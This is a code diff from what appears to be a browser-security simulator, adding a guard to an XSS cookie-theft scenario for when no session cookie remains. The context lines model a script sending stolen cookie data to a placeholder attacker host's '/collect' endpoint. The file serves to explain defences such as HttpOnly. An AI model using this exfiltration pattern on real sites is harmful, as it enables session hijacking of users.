@@ -66,6 +66,12 @@ func xssCookieTheftScript(w *World) {
 
 	exfil := URL{Scheme: "https", Host: AttackerHost, Path: "/collect", Query: "c=" + visible}
 	w.victim.do(nav{method: "GET", url: exfil, initiator: doc.Origin(), action: "the script sends what it read to the attacker", actor: ActorVictim})
+	if stolen == "" && check == nil {
+		// No configuration explored reaches this, but a run must not panic.
+		w.decide(Blocked, "The victim's browser holds no session cookie by now; the script finds nothing to steal",
+			"document.cookie lists the cookies the browser holds for the page", "RFC 6265bis §5.8.3")
+		return
+	}
 	if stolen == "" {
 		w.decide(Blocked, "HttpOnly keeps the session cookie out of document.cookie; the script gets nothing to steal",
 			check.Rule, check.Source)
